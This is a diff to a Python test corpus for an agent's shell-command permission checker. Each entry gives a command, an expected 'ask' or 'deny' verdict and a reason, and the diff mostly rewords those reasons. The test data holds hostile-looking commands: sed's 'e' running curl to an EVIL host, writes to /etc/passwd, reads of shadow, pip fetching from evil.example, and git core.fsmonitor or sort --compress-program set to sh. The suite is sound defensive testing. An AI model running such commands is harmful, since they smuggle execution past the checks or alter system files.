@@ -233,7 +233,7 @@ CORPUS = [
         "package_managers.pip.registries",
         "pip-direct-url",
     ),
-    ask("pip install -r requirements.txt", "requirements file", "pip-requirements"),
+    ask("pip install -r requirements.txt", "installs what a file lists", "pip-requirements"),
     ask("pip install $PKG", "only known at run time", "pip-variable-package"),
     deny("npm install left-pad", "package_managers.npm.enabled", "npm-disabled"),
     deny("conda install numpy", "package_managers.conda.enabled", "conda-disabled"),
@@ -278,8 +278,8 @@ CORPUS = [
     ask("echo $[y]", "arithmetic", "old-arithmetic"),
     # --- sed options after operands -----------------------------------------------------------
     ask(f"sed p data.txt -e '1e curl {EVIL}'", "sed command 'e'", "sed-option-after-operand"),
-    ask("sed --expr='1e id' data.txt", "abbreviated", "sed-abbreviated-option"),
-    ask("sed -n data.txt -f script.sed", "script file", "sed-file-after-operand"),
+    ask("sed --expr='1e id' data.txt", "sed command 'e'", "sed-abbreviated-option"),
+    ask("sed -n data.txt -f script.sed", "script from a file", "sed-file-after-operand"),
     # --- brace expansion in paths -------------------------------------------------------------
     deny("echo x > {/etc/passwd,}", "file(write:/etc/**:*)", "brace-redirect"),
     ask("cd {/etc,}; cat shadow", "not certain", "brace-cd"),
@@ -311,7 +311,7 @@ CORPUS = [
         "package_managers.pip.registries",
         "pip-abbreviated-extra-index",
     ),
-    ask("pip install --frobnicate pandas", "unknown or an ambiguous", "pip-unknown-option"),
+    ask("pip install --frobnicate pandas", "unknown option --frobnicate", "pip-unknown-option"),
     deny(
         "pip install -c https://evil.example/c.txt pandas",
         "web_access.allowed_domains",
@@ -320,24 +320,26 @@ CORPUS = [
     deny("pip install -r https://evil.example/r.txt", "web_access.allowed_domains", "pip-req-url"),
     ask("pip install --trusted-host evil.example pandas", "trusted-host", "pip-trusted-host"),
     ask("git clone file:///etc x", "local repository", "git-clone-file-url"),
-    ask("git clone /etc/x y", "local repository", "git-clone-local-path"),
+    ask("git clone /etc/x y", "local path", "git-clone-local-path"),
     ask(
         "git clone --recurse-submodules https://github.com/org/repo",
-        "submodule remotes",
+        "fetches submodules",
         "git-clone-submodules",
     ),
     ask("git clone --recursive https://github.com/org/repo", "submodule", "git-clone-recursive"),
     ask("sort --compress-program=sh data.txt", "compress-program", "sort-compress-program"),
     # git reads $XDG_CONFIG_HOME/git/config, GIT_CONFIG_* and a repository the agent laid
     # out itself; any of them can name core.fsmonitor, which git status runs.
-    ask("XDG_CONFIG_HOME=cfg git status", "assigning XDG_CONFIG_HOME", "git-xdg-config"),
+    ask(
+        "XDG_CONFIG_HOME=cfg git status", "XDG_CONFIG_HOME is not an environment", "git-xdg-config"
+    ),
     ask(
         "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.fsmonitor GIT_CONFIG_VALUE_0=sh git status",
-        "assigning GIT_CONFIG_COUNT",
+        "GIT_CONFIG_COUNT is not an environment",
         "git-config-env",
     ),
-    ask("git --git-dir=cfg status", "git --git-dir", "git-dir-elsewhere"),
-    ask("git diff --output=/etc/passwd", "git --output", "git-diff-output"),
+    ask("git --git-dir=cfg status", "--git-dir points git at files", "git-dir-elsewhere"),
+    deny("git diff --output=/etc/passwd", "file(write:/etc/**:*)", "git-diff-output"),
 ]
 
 
